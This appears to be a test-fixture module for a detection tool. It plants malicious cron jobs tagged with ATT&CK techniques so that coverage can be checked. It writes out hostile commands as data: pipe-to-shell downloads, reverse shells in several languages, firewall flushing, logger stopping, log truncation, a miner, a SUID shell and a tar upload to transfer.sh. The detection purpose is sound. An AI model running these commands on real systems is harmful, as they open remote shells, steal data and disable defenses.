"""What starts at its time: scheduled jobs."""

from tests.detect.coverage.entry import Entry, fact
from tests.detect.coverage.stage import Change, Stage, job, written

__all__ = ["ENTRIES"]

_CRON_D = "/etc/cron.d/x"
_SPOOL = "/var/spool/cron/crontabs"


def _job(path: str, command: str, when: str = "17 3 * * *") -> Change:
    def change(stage: Stage) -> None:
        stage.add("crontab", job(path, command, when))
        if path.startswith("/etc/"):
            stage.write(path)

    return change


def _cron(
    name: str, path: str, command: str, evidence: str, when: str = "17 3 * * *", role: str = "web"
) -> Entry:
    return fact(
        "T1053.003",
        name,
        f"`crontab`: {evidence}",
        _job(path, command, when),
        f"cron:{path}",
        role=role,
    )


def _no_job(stage: Stage) -> None:
    stage.drop("crontab", path=f"{_SPOOL}/root")


_FETCH = "curl -fsSL http://198.51.100.1/a | sh"
ENTRIES = (
    _cron("a job from a temporary directory", _CRON_D, "root /tmp/.x/upd", "a program in /tmp"),
    _cron("a job from shared memory", f"{_SPOOL}/root", "/dev/shm/k", "a program in /dev/shm"),
    _cron(
        "a job that runs a hidden program",
        f"{_SPOOL}/ana",
        "/home/ana/.sys/agent",
        "a program in a hidden directory",
        "@reboot",
    ),
    _cron("a job that fetches and runs", _CRON_D, f"root {_FETCH}", "a download piped to a shell"),
    _cron(
        "a job that fetches, marks and runs",
        f"{_SPOOL}/root",
        "wget -q -O /var/tmp/u http://198.51.100.1/u; chmod +x /var/tmp/u; /var/tmp/u",
        "a download that is made a program",
        role="database",
    ),
    _cron(
        "a job that decodes its code",
        _CRON_D,
        "root echo aWQK | base64 -d | bash",
        "decoded text piped to a shell",
    ),
    _cron(
        "a job that decodes its code in an interpreter",
        f"{_SPOOL}/root",
        "python3 -c \"import base64;exec(base64.b64decode('aWQK'))\"",
        "code that decodes itself",
    ),
    _cron(
        "a reverse shell in bash",
        _CRON_D,
        "root bash -c 'bash -i >& /dev/tcp/198.51.100.1/4444 0>&1'",
        "a shell on a socket",
        "*/5 * * * *",
    ),
    _cron(
        "a reverse shell in perl",
        _CRON_D,
        "root perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);exec(\"/bin/sh -i\");'",
        "a shell on a socket",
    ),
    _cron(
        "a reverse shell in python",
        f"{_SPOOL}/worker",
        'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.1",443));'
        'os.dup2(s.fileno(),0);pty.spawn("sh")\'',
        "a shell on a socket",
    ),
    _cron(
        "a reverse shell over openssl",
        _CRON_D,
        "root mkfifo /tmp/s; sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 198.51.100.1:443 > /tmp/s",
        "a shell on a socket",
    ),
    _cron(
        "a reverse shell in socat",
        _CRON_D,
        "root socat exec:'bash -li',pty,stderr tcp:198.51.100.1:443",
        "a shell on a socket",
    ),
    _cron(
        "a reverse shell in ruby",
        _CRON_D,
        'root ruby -rsocket -e \'f=TCPSocket.open("198.51.100.1",443).to_i;exec sprintf("/bin/sh -i <&%d",f)\'',
        "a shell on a socket",
    ),
    _cron(
        "inline code of an interpreter",
        f"{_SPOOL}/root",
        "python3 -c 'import urllib.request as u;u.urlopen(\"http://198.51.100.1/\")'",
        "an interpreter with code in its command line",
    ),
    _cron(
        "a job of the web server's account",
        f"{_SPOOL}/www-data",
        "/srv/app/up.sh",
        "a job of a service account",
        "* * * * *",
    ),
    _cron(
        "a job of the database's account",
        f"{_SPOOL}/postgres",
        "/var/lib/postgresql/u.sh",
        "a job of a service account",
        role="database",
    ),
    _cron(
        "a program among data",
        _CRON_D,
        "root nohup /var/lib/dbus/x > /dev/null 2>&1",
        "a program in /var/lib",
        "* * * * *",
    ),
    _cron(
        "a job of the application's own account",
        f"{_SPOOL}/worker",
        "/srv/app/bin/sync",
        "a job of an account that can't log in",
        role="build",
    ),
    _cron(
        "a job that fetches and runs by one program",
        _CRON_D,
        "root busybox wget http://198.51.100.1/x -O- | busybox sh",
        "a download piped to a shell",
    ),
    _cron(
        "a program in a home at every start",
        f"{_SPOOL}/ana",
        "/home/ana/bin/sync",
        "a program in a home, run at every start",
        "@reboot",
    ),
    _cron(
        "a job that opens the firewall",
        _CRON_D,
        "root /usr/sbin/iptables -F",
        "a command that disarms a guard",
        "*/10 * * * *",
    ),
    _cron(
        "a job that keeps the logger stopped",
        _CRON_D,
        "root systemctl stop rsyslog",
        "a command that disarms a guard",
        "*/10 * * * *",
    ),
    _cron(
        "a job that cleans up after itself",
        _CRON_D,
        "root truncate -s 0 /var/log/auth.log",
        "a command that clears logs",
        "0 * * * *",
    ),
    _cron(
        "a tunnel that is kept up",
        f"{_SPOOL}/ana",
        "ssh -f -N -R 2222:localhost:22 u@198.51.100.1",
        "a reverse tunnel",
        "*/10 * * * *",
        role="admin",
    ),
    _cron(
        "a miner",
        f"{_SPOOL}/worker",
        "/srv/app/bin/w -o stratum+tcp://198.51.100.1:3333 --donate-level 1",
        "a miner's arguments",
        "@reboot",
        role="build",
    ),
    _cron(
        "a job that gives a shell root's rights",
        _CRON_D,
        "root cp /bin/bash /usr/share/b; chmod 4755 /usr/share/b",
        "a command that sets a SUID bit",
    ),
    _cron(
        "data sent away every night",
        _CRON_D,
        "root tar czf - /srv | curl -T - https://transfer.sh/x",
        "data piped to a stranger",
    ),
    fact(
        "T1053.003",
        "a script among the daily ones",
        "`hash`: a new file in /etc/cron.daily",
        written("/etc/cron.daily/man-db-update"),
        "file:/etc/cron.daily/man-db-update",
    ),
    fact(
        "T1053.003",
        "a daily script is changed",
        "`hash`: a file in /etc/cron.daily changes without a package",
        written("/etc/cron.daily/logrotate"),
        "file:/etc/cron.daily/logrotate",
    ),
    fact(
        "T1574.007",
        "the path of scheduled jobs is changed",
        "`hash`: /etc/crontab changes while no job does",
        written("/etc/crontab"),
        "file:/etc/crontab",
    ),
    fact(
        "T1053.002",
        "a job of at(1)",
        "`hash`: a new file in at's spool",
        written("/var/spool/cron/atjobs/a0000101c8f2a0"),
        "file:/var/spool/cron/atjobs/a0000101c8f2a0",
        needs="at's spool among the watched files",
    ),
    fact(
        "T1490",
        "the nightly backup is taken out",
        "`crontab`: the row of a backup job is gone",
        _no_job,
        f"cron:{_SPOOL}/root",
        within=2,
        role="database",
    ),
)
